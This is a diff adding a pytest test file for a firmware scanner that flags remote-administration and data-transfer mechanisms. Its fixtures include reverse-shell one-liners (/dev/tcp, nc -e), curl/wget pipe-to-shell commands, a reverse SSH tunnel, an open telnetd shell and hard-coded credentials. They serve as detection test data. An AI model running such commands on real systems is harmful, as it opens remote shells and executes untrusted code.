@@ -1,0 +1,89 @@
+import time
+
+import pytest
+
+from inspector.formats.reader import BufferReader
+from inspector.model.artifact import Artifact
+from inspector.scan.base import ScanNotes
+from inspector.scan.mechanisms import Mechanisms
+
+SCANNER = Mechanisms()
+
+
+def mechanisms(content: bytes, leaf_format: str = "shell"):
+    return list(SCANNER.scan(Artifact("fw", leaf_format, "x", "fw", "/etc/x"), BufferReader(content), ScanNotes()))
+
+
+@pytest.mark.parametrize(
+    ("content", "value", "host"),
+    [
+        (b"mount -o nolock 202.114.4.119:/pm /mnt\n", "nfs-mount:202.114.4.119:/pm", "202.114.4.119"),
+        (b"\x00mount -o nolock 202.114.4.119:/pm /mnt\x00", "nfs-mount:202.114.4.119:/pm", "202.114.4.119"),
+        (b"mount -t nfs -o nolock,tcp nas.tuyacn.com:/x/y $DIR\n", "nfs-mount:nas.tuyacn.com:/x/y", "nas.tuyacn.com"),
+        (b"47.1.2.3:/export /mnt nfs ro 0 0\n", "nfs-mount:47.1.2.3:/export", "47.1.2.3"),
+        (b"tftp -g -r fw.bin 47.1.2.3\n", "tftp-fetch:47.1.2.3", "47.1.2.3"),
+        (b"ftpput -u a -p b up.tuyacn.com /x /y\n", "ftp-upload:up.tuyacn.com", "up.tuyacn.com"),
+        (b"curl -fsSL http://x.tuyacn.com/i.sh | sh\n", "fetch-and-execute:http://x.tuyacn.com/i.sh", "x.tuyacn.com"),
+        (b"wget -q -O- http://x.tuyacn.com/i | /bin/sh", "fetch-and-execute:http://x.tuyacn.com/i", "x.tuyacn.com"),
+        (b"wget http://x.cn/a -O /tmp/a && chmod +x /tmp/a", "fetch-and-execute:http://x.cn/a", "x.cn"),
+        (b'sh -c "$(curl -s https://x.cn/a)"', "fetch-and-execute:https://x.cn/a", "x.cn"),
+        (b"bash -i >& /dev/tcp/47.1.2.3/4444 0>&1", "reverse-shell:47.1.2.3", "47.1.2.3"),
+        (b"nc 47.1.2.3 4444 -e /bin/sh", "reverse-shell:47.1.2.3", "47.1.2.3"),
+        (b"ssh -N -R 2222:localhost:22 root@s.tuyacn.com\n", "reverse-tunnel:s.tuyacn.com", "s.tuyacn.com"),
+        (b"server_addr = frp.tuyacn.com\n", "reverse-tunnel:frp.tuyacn.com", "frp.tuyacn.com"),
+        (b"/usr/sbin/telnetd -l /bin/sh &\n", "shell-daemon:telnetd -l /bin/sh", ""),
+        (b"telnetd\n", "shell-daemon:telnetd", ""),
+        (b"\x00telnetd&\x00", "shell-daemon:telnetd", ""),
+        (b"dropbear -p 22\n", "shell-daemon:dropbear -p 22", ""),
+        (b"acs_url='http://acs.tuyacn.com:7547/x'\n", "tr069-acs:http://acs.tuyacn.com:7547/x", "acs.tuyacn.com"),
+        (b"Device.ManagementServer.URL http://acs.x.cn/\n", "tr069-acs:http://acs.x.cn/", "acs.x.cn"),
+        (b"\x00http://ota.x.cn/v1/check\x00", "update-url:http://ota.x.cn/v1/check", "ota.x.cn"),
+        (b"\x00https://x.cn/firmware/list.json\x00", "update-url:https://x.cn/firmware/list.json", "x.cn"),
+        (b"\x00PPCS_Initialize\x00", "p2p-stack:PPCS_", ""),
+        (b"\x00IOTC_Connect_ByUID\x00", "p2p-stack:IOTC_", ""),
+        (b"\x00smart/device/in/%s\x00", "mqtt-topic:smart/device/in/%s", ""),
+        (b"\x00/sys/%s/%s/thing/service/property/set\x00", "mqtt-topic:/sys/%s/%s/thing/service/property/set", ""),
+        (b"ntpd -n -p ntp.tuyacn.com\n", "ntp-server:ntp.tuyacn.com", "ntp.tuyacn.com"),
+        (b"nameserver 114.114.114.114\n", "dns-server:114.114.114.114", "114.114.114.114"),
+        (b"syslogd -R 47.1.2.3:514\n", "syslog-server:47.1.2.3", "47.1.2.3"),
+        (b"*.* @log.tuyacn.com\n", "syslog-server:log.tuyacn.com", "log.tuyacn.com"),
+        (b"rtsp://admin:hunter2@47.1.2.3/ch\n", "hard-coded-credentials:47.1.2.3", "47.1.2.3"),
+    ],
+)
+def test_names_the_mechanism_and_its_host(content, value, host):
+    found = {s.observable.value: dict(s.attributes) for s in mechanisms(content)}
+    assert value in found
+    assert found[value].get("host", "") == host
+    assert found[value]["limb"] in ("remote-administration", "data-transfer")
+    assert "hunter2" not in str(found)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"mount -t proc proc /proc\n",
+        b"mount: bad usage: host:/path /mnt\n",
+        b"see telnetd(8) for more\n",
+        b"telnetd_enable=0\n",
+        b"curl http://x.cn/a > /tmp/x | grep y\n",
+        b"nameserver 127.0.0.1\n",
+        b"the IOTC_something\n",
+        b"http://user:%s@47.1.2.3/",
+        b"http://x.cn/photo/a",
+    ],
+)
+def test_leaves_other_lines_alone(content):
+    assert mechanisms(content) == []
+
+
+@pytest.mark.parametrize(
+    "piece", [b"mount ", b"curl wget ", b"ssh -R ", b"a", b"nc -e ", b"-p ", b"http://upgrade", b"://a:"]
+)
+def test_a_long_line_costs_linear_time(piece):
+    def seconds(size: int) -> float:
+        began = time.perf_counter()
+        mechanisms(b"telnetd mount " + piece * (size // len(piece)))
+        return time.perf_counter() - began
+
+    seconds(1000)
+    assert seconds(400_000) < 12 * max(seconds(100_000), 0.02)
